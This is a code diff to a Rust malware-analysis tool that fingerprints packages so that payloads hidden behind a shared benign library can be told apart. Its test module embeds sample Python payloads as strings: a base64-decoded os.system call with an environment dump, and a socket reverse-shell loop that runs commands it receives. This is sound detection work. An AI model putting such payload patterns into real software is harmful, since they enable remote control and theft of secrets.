@@ -16,7 +16,7 @@
 //! lexer gives exactly; it accepts Python 2, minified and truncated files identically; and it is
 //! about an order of magnitude faster, which matters for the 100k-package scale target.
 
-use malgraph_core::{Ecosystem, PackageFile, normalise_name};
+use malgraph_core::{Ecosystem, PackageFile, ScanReport, Severity, normalise_name};
 use malgraph_typosquat::popularity_rank;
 use serde::{Deserialize, Serialize};
 use sha2::{Digest, Sha256};
@@ -334,6 +334,51 @@ pub fn fingerprint_with(files: &[PackageFile], opts: FingerprintOptions) -> Code
         shingles,
         tokens: tokens_total,
         modules: modules.into_iter().collect(),
+    }
+}
+
+/// Code files (Python / JavaScript) a scan flagged with a finding of severity `min` or above:
+/// the files that carry the package's malicious behaviour. Sorted, deduplicated.
+pub fn flagged_code_files(scan: &ScanReport, min: Severity) -> BTreeSet<String> {
+    scan.findings
+        .iter()
+        .filter(|f| f.severity >= min && lang_of(&f.file).is_some() && !skipped_path(&f.file))
+        .map(|f| f.file.clone())
+        .collect()
+}
+
+/// Fewest shingles a focused fingerprint needs; with fewer the flagged files are too small to
+/// stand for the package and [`fingerprint_focused`] keeps the whole-package shingles.
+pub const MIN_FOCUS_SHINGLES: usize = 20;
+
+/// Fingerprint whose shingles come only from the files in `focus` (e.g. the
+/// [`flagged_code_files`] of a scan), so two packages that carry the same renamed benign library
+/// but different payloads are compared on their payloads. The normalised hash and the module
+/// list stay those of the whole package (identical packages stay duplicates). With an empty
+/// `focus`, or when the focused files give fewer than [`MIN_FOCUS_SHINGLES`] shingles, this is
+/// the whole-package fingerprint.
+pub fn fingerprint_focused(
+    files: &[PackageFile],
+    opts: FingerprintOptions,
+    focus: &BTreeSet<String>,
+) -> CodeFingerprint {
+    let whole = fingerprint_with(files, opts);
+    if focus.is_empty() {
+        return whole;
+    }
+    let chosen: Vec<PackageFile> = files
+        .iter()
+        .filter(|f| focus.contains(&f.path))
+        .cloned()
+        .collect();
+    let part = fingerprint_with(&chosen, opts);
+    if part.shingles.len() < MIN_FOCUS_SHINGLES || part.shingles.len() >= whole.shingles.len() {
+        return whole;
+    }
+    CodeFingerprint {
+        shingles: part.shingles,
+        tokens: part.tokens,
+        ..whole
     }
 }
 
@@ -832,6 +877,94 @@ mod tests {
             path: path.into(),
             data: code.as_bytes().to_vec(),
         }
+    }
+
+    fn finding(path: &str, severity: Severity) -> malgraph_core::Finding {
+        malgraph_core::Finding {
+            rule: "T".into(),
+            category: malgraph_core::Category::CommandExecution,
+            severity,
+            stage: None,
+            evasion: None,
+            file: path.into(),
+            line: 1,
+            snippet: String::new(),
+            layer: 0,
+            message: String::new(),
+        }
+    }
+
+    /// A benign-looking library module of `n` distinct functions.
+    fn library(n: usize) -> String {
+        // each function's body spells its index in base 4 with four different shapes, so
+        // the functions differ after normalisation
+        (0..n)
+            .map(|i| {
+                let body: Vec<&str> = (0..5)
+                    .map(|d| ["a.get(b)", "[b, a]", "{b: a}", "(not a)"][i >> (2 * d) & 3])
+                    .collect();
+                format!("def f{i}(a, b):\n    return ({})\n", body.join(" + "))
+            })
+            .collect()
+    }
+
+    #[test]
+    fn flagged_code_files_keep_code_at_or_above_severity() {
+        let mut scan = ScanReport::error("p", None, "x");
+        scan.findings = vec![
+            finding("p-1/setup.py", Severity::High),
+            finding("p-1/p/util.py", Severity::Medium),
+            finding("p-1/PKG-INFO", Severity::Critical),
+            finding("p-1/setup.py", Severity::Critical),
+        ];
+        let high = flagged_code_files(&scan, Severity::High);
+        assert_eq!(high.into_iter().collect::<Vec<_>>(), vec!["p-1/setup.py"]);
+        let medium = flagged_code_files(&scan, Severity::Medium);
+        assert_eq!(medium.len(), 2);
+    }
+
+    #[test]
+    fn focused_fingerprint_separates_payloads_behind_one_library() {
+        let lib = library(1024);
+        let payload_a = "import os\nimport base64\nos.system(base64.b64decode('eA==').decode())\nopen('/tmp/a', 'w').write(os.environ['HOME'])\nfor k in os.environ: print(k, os.environ[k])\n";
+        let payload_b = "import socket, subprocess\ns = socket.socket()\ns.connect(('h', 1))\nwhile True:\n    c = s.recv(1024)\n    subprocess.Popen(c, shell=True, stdout=s.fileno())\n    s.send(b'ok')\n";
+        let a = vec![
+            file("aa-1/aa/core.py", &lib),
+            file("aa-1/setup.py", payload_a),
+        ];
+        let b = vec![
+            file("bb-1/bb/core.py", &lib),
+            file("bb-1/setup.py", payload_b),
+        ];
+        let jac = |x: &CodeFingerprint, y: &CodeFingerprint| {
+            let xs: BTreeSet<u64> = x.shingles.iter().copied().collect();
+            let ys: BTreeSet<u64> = y.shingles.iter().copied().collect();
+            xs.intersection(&ys).count() as f64 / xs.union(&ys).count() as f64
+        };
+        let opts = FingerprintOptions::default();
+        let (wa, wb) = (fingerprint(&a), fingerprint(&b));
+        assert!(
+            jac(&wa, &wb) > 0.5,
+            "whole packages look alike: {} of {}",
+            jac(&wa, &wb),
+            wa.shingles.len()
+        );
+        let fa = fingerprint_focused(&a, opts, &BTreeSet::from(["aa-1/setup.py".to_string()]));
+        let fb = fingerprint_focused(&b, opts, &BTreeSet::from(["bb-1/setup.py".to_string()]));
+        assert!(jac(&fa, &fb) < 0.1, "payloads differ");
+        // identity of the whole package is kept
+        assert_eq!(fa.normalized_sha256, wa.normalized_sha256);
+        assert_eq!(fa.modules, wa.modules);
+        assert!(fa.shingles.len() < wa.shingles.len());
+        // no focus: the whole package
+        assert_eq!(fingerprint_focused(&a, opts, &BTreeSet::new()), wa);
+        // a focus too small to stand for the package: the whole package
+        let tiny = vec![
+            file("aa-1/aa/core.py", &lib),
+            file("aa-1/run.py", "import os\nos.system('x')\n"),
+        ];
+        let ft = fingerprint_focused(&tiny, opts, &BTreeSet::from(["aa-1/run.py".to_string()]));
+        assert_eq!(ft, fingerprint(&tiny));
     }
 
     #[test]
